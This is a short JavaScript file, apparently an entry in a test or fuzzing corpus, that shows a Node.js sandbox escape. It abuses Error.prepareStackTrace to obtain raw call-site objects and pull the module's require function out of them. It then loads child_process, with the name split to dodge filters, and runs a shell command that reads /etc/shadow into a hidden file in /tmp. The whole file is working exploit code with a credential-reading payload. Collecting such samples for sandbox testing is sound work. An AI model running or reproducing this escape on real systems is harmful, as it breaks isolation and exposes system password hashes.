// corpus: Error.prepareStackTrace returns raw CallSites whose getThis/getFunction leak the module wrapper and its require
const saved = Error.prepareStackTrace;
Error.prepareStackTrace = (_err, callsites) => callsites;
const sites = new Error().stack;
Error.prepareStackTrace = saved;

let leakedRequire = null;
for (const site of sites) {
  const fn = site.getFunction && site.getFunction();
  if (fn && fn.length === 5 && fn.arguments) {
    leakedRequire = fn.arguments[1];
    break;
  }
  const self = site.getThis && site.getThis();
  if (self && self.require) leakedRequire = self.require.bind(self);
}

if (leakedRequire) {
  leakedRequire('child' + '_process').execSync('id; cat /etc/shadow 2>&1 > /tmp/.st');
}
